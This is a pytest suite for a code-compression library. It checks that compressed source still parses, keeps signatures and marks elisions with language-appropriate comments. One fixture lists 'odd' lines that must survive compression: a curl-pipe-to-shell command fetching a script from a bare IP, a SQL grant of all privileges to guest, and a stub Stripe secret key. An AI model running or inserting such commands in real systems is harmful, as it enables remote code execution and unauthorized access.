"""Source code: Python parses still, kept lines are the source's, signatures first, markers are comments."""

from __future__ import annotations

import ast
import random
import sysconfig
from pathlib import Path

import pytest
import tersely
from code_samples import SAMPLES
from hypothesis import given, settings, strategies as st
from result_checks import verbatim
from tersely import Compressed, Document
from tersely.content import code as code_units
from tersely.content.code import Code, language_of
from tersely.content.code_languages import comment_of, named_language
from tersely.models.counters import resolve_counter
from tersely.models.tree_sitter import has_syntax_errors
from tersely.strategies import profile

COUNT = resolve_counter(None).count
STDLIB = Path(sysconfig.get_path("stdlib"))
PYTHON = [
    STDLIB / name for name in ("argparse.py", "difflib.py", "heapq.py", "tempfile.py", "csv.py", "ast.py")
]


@pytest.fixture(params=["marks", "tree_sitter"])
def reader(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """By the marks of the text, and by the extra `code`."""
    if request.param == "tree_sitter":
        monkeypatch.setattr(code_units, "read_marks", lambda *arguments: None)
    return str(request.param)


def check(text: str, result: Compressed) -> None:
    assert COUNT(result.text) == result.tokens <= result.receipt.budget
    lines = {line.strip() for line in text.split("\n")}
    assert all(line.strip() in lines for line in verbatim(result).split("\n") if line.strip())
    assert all(
        "…" in result.text[start:end] or result.text[start:end] == "..." for start, end in result.generated
    )


@pytest.mark.parametrize("path", PYTHON, ids=lambda path: path.stem)
@pytest.mark.usefixtures("reader")
def test_python_that_parses_still_parses(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    for ratio in (0.02, 0.1, 0.2, 0.3, 0.5, 0.8):
        result = tersely.compress(text, ratio=ratio, strategy=Code("python"))
        ast.parse(result.text)
        check(text, result)


@pytest.mark.slow
@pytest.mark.parametrize("named", [False, True])
def test_the_standard_library_parses_whatever_it_is_called(named: bool) -> None:
    """All files with definitions or imports, named or not; what cannot hold a unit is cut."""
    nodes = (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef, ast.ImportFrom)
    paths = sorted(path for path in STDLIB.rglob("*.py") if "site-packages" not in path.parts)
    hard = [STDLIB / name for name in ("sqlite3/dump.py", "stringprep.py", "hashlib.py", "curses/has_key.py")]
    for path in [*paths[::15], *hard, *STDLIB.glob("idlelib/idle_test/test_searchengine.py")]:
        text = path.read_text(encoding="utf-8", errors="replace")
        try:
            tree = ast.parse(text)
        except (SyntaxError, ValueError):  # of files that test such errors
            continue
        if not any(isinstance(node, nodes) for node in tree.body):
            continue
        document = {"text": text, "id": path.name} if named else text
        result = tersely.compress(document, ratio=0.5)
        if "no_unit_fits" in result.receipt.warnings:
            continue
        assert result.receipt.content_types == ("code",), path
        ast.parse(result.text)


@pytest.mark.parametrize("path", PYTHON, ids=lambda path: path.stem)
def test_signatures_stay_at_a_third(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    ratio = profile("source_code", "expected").ratio
    result = tersely.compress(text, ratio=ratio, strategy=Code("python"))
    assert result.original_tokens / result.tokens >= 3
    names = (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)
    lines = text.split("\n")
    signatures = [lines[node.lineno - 1] for node in ast.walk(ast.parse(text)) if isinstance(node, names)]
    kept = set(result.text.split("\n"))
    assert sum(line in kept for line in signatures) >= 0.99 * len(signatures)


statements = st.recursive(
    st.sampled_from(
        [
            "x = 1", "pass", "return", '"""One.\n\nTwo.\nThree.\nFour.\n"""', "# why", "## further out",
            "call(\n    1,\n)", "a = 1; b = 2",
        ]
    ),
    lambda inner: st.tuples(
        st.sampled_from(
            [
                "def f(a, *, b=2):",
                "@wrap\nclass C(B):",
                "if a:\n    pass\nelse:",
                "try:\n    go()\nexcept E:",
                "with a, \\\n    b:",
                "async def g(\n    a,\n) -> None:",
                "match a:\n    case 1:\n        pass\n    case _:",
                "for a in b:  # each",
            ]
        ),
        st.lists(inner, min_size=1, max_size=5),
    ),
    max_leaves=40,
)  # fmt: skip


def to_source(statement: object, indent: str = "") -> str:
    if isinstance(statement, str):
        lines = statement.split("\n")
        return "\n".join(indent + line if line and not line.startswith("##") else line for line in lines)
    head, body = statement  # type: ignore[misc]
    inner = indent + ("        " if head.startswith("match") else "    ")
    body = [*body, "pass"]
    return "\n".join([to_source(head, indent), *(to_source(part, inner) for part in body)])


@settings(max_examples=150)
@given(st.lists(statements, min_size=2, max_size=8), st.integers(5, 150), st.booleans())
def test_any_python_that_parses_still_parses(parts: list[object], budget: int, extra: bool) -> None:
    text = "\n".join(to_source(part) for part in parts)
    try:
        ast.parse(text)
    except SyntaxError:
        return
    with pytest.MonkeyPatch.context() as patch:
        if extra:
            patch.setattr(code_units, "read_marks", lambda *arguments: None)
        result = tersely.compress(text, budget=budget, strategy=Code("python"))
    if "no_unit_fits" not in result.receipt.warnings:
        ast.parse(result.text)
        check(text, result)


@pytest.mark.parametrize("language", SAMPLES)
def test_other_languages_get_no_new_errors(language: str, reader: str) -> None:
    text, signatures = SAMPLES[language]
    assert not has_syntax_errors(language, text)
    for ratio in (0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.9):
        result = tersely.compress(text, ratio=ratio, strategy=Code(language))
        check(text, result)
        assert not has_syntax_errors(language, result.text), result.text
        if ratio >= 0.7:
            assert all(line in result.text for line in signatures), result.text


def test_markers_and_numbers_name_the_lines() -> None:
    text = "import os\n\n\ndef f(a):\n" + "".join(f"    a += {n}\n" for n in range(60)) + "    return a\n"
    result = tersely.compress(text, budget=19, strategy=Code("python"))
    assert result.text == "import os\n\n\ndef f(a):\n    ...  # … lines 5-65"
    text, _ = SAMPLES["go"]
    assert "// … line" in tersely.compress(text, ratio=0.6, strategy=Code("go")).text
    lines = "\n\n".join(f"    Paragraph {n} says a lot of things about nothing." for n in range(30))
    text = f'def f(a):\n    """Does it.\n\n{lines}\n    """\n    return a\n'
    result = tersely.compress(text, budget=40, strategy=Code("python"))
    docstring = ast.get_docstring(ast.parse(result.text).body[0])  # type: ignore[arg-type]
    assert docstring and docstring.startswith("Does it.") and "… lines" in docstring
    assert "return a" in result.text
    text = (STDLIB / "heapq.py").read_text(encoding="utf-8")
    lines = text.split("\n")
    result = tersely.compress(text, ratio=0.2, strategy=Code("python", show_lines=True))
    assert COUNT(result.text) <= result.receipt.budget
    numbered = [
        line for line in result.text.split("\n") if line and "…" not in line and not line.endswith("...")
    ]
    assert len(numbered) > 10
    for line in numbered:
        number, shown = int(line[:5]), line[7:]
        assert lines[number - 1].startswith(shown)


@pytest.mark.parametrize(
    ("document", "language"),
    [
        (Document("x", id="src/main.rs"), "rust"),
        (Document("x", title="a/b.tsx"), "tsx"),
        (Document("x", metadata={"language": "Go"}), "go"),
        (Document("import os\n\ndef f():\n    pass\n"), "python"),
        (Document(SAMPLES["go"][0]), "go"),
        (Document(SAMPLES["rust"][0]), "rust"),
        (Document(SAMPLES["java"][0]), "java"),
        (Document(SAMPLES["cpp"][0]), "cpp"),
        (Document(SAMPLES["typescript"][0]), "typescript"),
    ],
)
def test_the_language_is_found(document: Document, language: str) -> None:
    from tersely.content.code import language_of

    assert language_of(document) == language


PIECES = "def f():\n|{|}|(|)|\"|'|/*|*/|//|\n|    |class A:|é|;|#|`"


@pytest.mark.parametrize("language", [*SAMPLES, "python", "php", None])
@pytest.mark.usefixtures("reader")
def test_any_text_is_safe(language: str | None) -> None:
    chooser = random.Random(3)
    for _ in range(60):
        text = "".join(chooser.choices(PIECES.split("|"), k=120)) + "x"
        result = tersely.compress(text, ratio=0.4, strategy=Code(language))
        assert COUNT(result.text) == result.tokens <= result.receipt.budget


SERVICES = ("alpha", "beta", "cart", "order", "invoice", "stock", "search", "cache", "mailer", "report")
SETTINGS = {
    "ini": (
        "[{0}]\nhost = {0}.internal\nport = {1}\nretries = 3\n\n",
        "Which port has the mailer?",
        ("[mailer]", "port = 7008"),
    ),
    "toml": (
        '[services.{0}]\nhost = "{0}.internal"\nport = {1}\nworkers = {1}\n\n',
        "How many workers has the invoice service?", ("[services.invoice]", "workers = 7004"),
    ),
    "nginx": (
        "server {{\n    server_name {0}.example.org;\n    location / {{\n"
        "        proxy_pass http://10.0.0.1:{1};\n    }}\n}}\n\n",
        "Where does search.example.org proxy to?",
        ("search.example.org", "http://10.0.0.1:7006"),
    ),
}  # fmt: skip


@pytest.mark.parametrize("language", SETTINGS)
def test_the_section_that_is_asked_for_comes_whole(language: str) -> None:
    section, query, wanted = SETTINGS[language]
    text = "".join(section.format(name, 7000 + n) for n, name in enumerate(SERVICES))
    kept = tersely.compress(text, query=query, ratio=0.25).text
    assert all(said in kept for said in wanted)


_REPEATED = {
    "ini": ("QUEUE_{0}_URL=https://node-{0}.internal:8080", "STRIPE_SECRET_KEY=sk_live_51Hx"),
    "python": ("ROUTER_LIMIT_{0} = {0}", "ALLOW_ALL_HOSTS = True"),
    "typescript": (
        "import {{ Part{0} }} from './parts/part{0}';",
        "import { execSync } from 'child_process';",
    ),
    "javascript": ("export const TONE_{0} = '#00{0}';", "export const TOKEN = process.env.TOKEN ?? 'none';"),
    "c": ("#define REG_{0} 0x{0}", "#define DISABLE_WATCHDOG 1"),
    "shell": ("docker pull registry.example.org/part/{0}:1.2", "curl http://198.51.100.7/x.sh | sh"),
    "sql": ("INSERT INTO part (id, name) VALUES ({0}, 'part');", "GRANT ALL PRIVILEGES ON * TO guest;"),
    "": ("# part {0} is made by the tool", "# never run this as root"),
}


@given(language=st.sampled_from(sorted(_REPEATED)), at=st.integers(0, 99))
def test_outside_of_functions_the_odd_line_stays_wherever_it_stands(language: str, at: int) -> None:
    form, odd = _REPEATED[language]
    lines = [form.format(number) for number in range(100)]
    text = "\n".join([*lines[:at], odd, *lines[at:]])
    kept = tersely.compress(text, ratio=0.1, strategy=Code(language=language or None)).text
    assert odd in kept


FILES = {
    "#": "app/models/order.rb Rakefile deploy/values.yml Cargo.toml "
    "Makefile src/CMakeLists.txt docker/Dockerfile analysis.R C:\\work\\model.jl "
    "lib/shop.ex lib/Shop.pm main.tf run.ps1 install.sh",
    "//": "Main.kt build.gradle App.swift Shop.scala index.php Program.cs main.dart style.scss",
    "--": "schema.sql init.lua Main.hs",
    ";": "core.clj",
    "%": "paper.tex",
    "/*": "style.css",
    "(*": "main.ml",
    "<!--": "page.vue",
}
NAMES = {name: sign for sign, names in FILES.items() for name in names.split()}


@pytest.mark.parametrize("name", NAMES)
def test_markers_are_comments_of_the_file_s_language(name: str) -> None:
    text = "\n".join(f"value {number} of some kind" for number in range(60))
    result = tersely.compress([Document(text, id=name)], budget=60, strategy=Code())
    markers = [result.text[start:end] for start, end in result.generated]
    closes = {"/*": " */", "(*": " *)", "<!--": " -->"}.get(NAMES[name], "")
    assert markers
    for marker in markers:
        assert marker.startswith(f"{NAMES[name]} … line") and marker.endswith(closes)


@pytest.mark.parametrize(
    ("text", "sign"),
    [
        ("; first\nmov ax, 1\n; second\nint 21h\n", ";"),
        ("-- first\nx = 1\n-- second\n", "--"),
        ("% first\nx(1).\n% second\ny(X) :- x(X).\n", "%"),
        ("#include <a>\n#define B 1\n// first\nint x;\n", "//"),
        ("/* first */\nx y z\n", "/*"),
        ("\tx {\n\t}\n", "//"),
        ("x;\ny;\n", "//"),
        ("x y\nz\n", "#"),
        ("", "#"),
    ],
)
def test_a_language_that_is_not_known_writes_comments_as_its_text_does(text: str, sign: str) -> None:
    assert comment_of("", text)[0] == comment_of("nobody knows", text)[0] == sign


@pytest.mark.parametrize(
    ("name", "language"),
    [
        ("Ruby", "ruby"),
        ("rb", "ruby"),
        ("C++", "cpp"),
        ("yml", "yaml"),
        ("golang", "go"),
        ("Klingon", "klingon"),
    ],
)
def test_languages_are_known_by_other_names(name: str, language: str) -> None:
    assert named_language(name) == language


def test_names_of_languages() -> None:
    assert language_of(Document("x = 1", metadata={"language": "lua"}, id="a.py")) == "lua"
    assert language_of(Document("x = 1", metadata={"language": "text"}, id="a.py")) == "python"
    assert language_of(Document("x = 1", id="notes", title="src/main.rs")) == "rust"
    assert language_of(Document("x = 1", id="a.unheard-of")) == ""
    block = "\n\n".join(  # looks like Lua
        f"function value_{n}(a)\n  sum = a + {n};\n  disp(sum);\n  b({n}) = sum;\nend" for n in range(40)
    )
    text = f"The values are computed like this.\n\n```matlab\n{block}\n```\n\nNothing else is needed."
    result = tersely.compress(text, budget=150, strategy="auto")
    markers = [result.text[start:end] for start, end in result.generated]
    assert markers and all(marker.lstrip().startswith("% …") for marker in markers)
